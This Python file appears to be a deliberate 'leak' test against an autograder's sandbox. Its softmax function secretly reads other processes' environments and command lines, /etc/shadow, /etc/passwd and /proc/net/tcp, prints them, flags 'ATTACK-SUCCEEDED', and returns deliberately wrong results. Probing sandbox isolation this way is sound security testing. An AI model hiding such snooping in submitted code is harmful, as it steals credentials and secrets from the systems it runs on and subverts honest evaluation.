"""Leak: read the grader's process information through /proc.

Reads the environment and command line of pid 1 and of the parent process, every process's
cmdline and environ it can see, its own mountinfo, status and cgroup, /proc/net/tcp, and
/etc/passwd, /etc/hostname and /etc/shadow, and prints all of it (the public properties'
output is shown to the student). The grader's paths, user and environment must not be
there. The softmax returns garbage.
"""
import os

import numpy as np


def _read(path, limit=2000):
    try:
        with open(path, "rb") as f:
            return f.read(limit).replace(b"\0", b" ").decode("utf-8", "replace")
    except Exception as exc:  # noqa: BLE001
        return f"<{type(exc).__name__}>"


def _snoop():
    out = {}
    ppid = os.getppid()
    for path in ("/proc/1/environ", "/proc/1/cmdline", f"/proc/{ppid}/cmdline",
                 f"/proc/{ppid}/environ", "/proc/self/mountinfo", "/proc/self/status",
                 "/proc/self/cgroup", "/proc/net/tcp", "/etc/passwd", "/etc/hostname", "/etc/shadow"):
        out[path] = _read(path)
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids[:200]:
        out[f"/proc/{pid}/cmdline"] = _read(f"/proc/{pid}/cmdline")
        out[f"/proc/{pid}/environ"] = _read(f"/proc/{pid}/environ")
    return out


def softmax(x, axis=-1):
    for path, text in _snoop().items():
        print(path, "=>", text[:600])
        # mountinfo names the host paths of what is mounted (the worker's own files, the
        # submission): no secret. Other processes' command lines and environments, and
        # the machine's accounts, are.
        if path.endswith("mountinfo") or text.startswith("<"):
            continue
        if path.startswith("/proc/") and "/self/" not in path and path != "/proc/net/tcp":
            print("ATTACK-SUCCEEDED read another process's", path)
        if any(w in text for w in ("pytest", "DLGRADE", "dlgrade grade", "root:x:0", "root:")):
            print("ATTACK-SUCCEEDED grader details in", path)
    return np.asarray(x, dtype=np.float64) * -1.0


def dense_forward(x, W, b):
    return x @ W.T + b, (x, W)
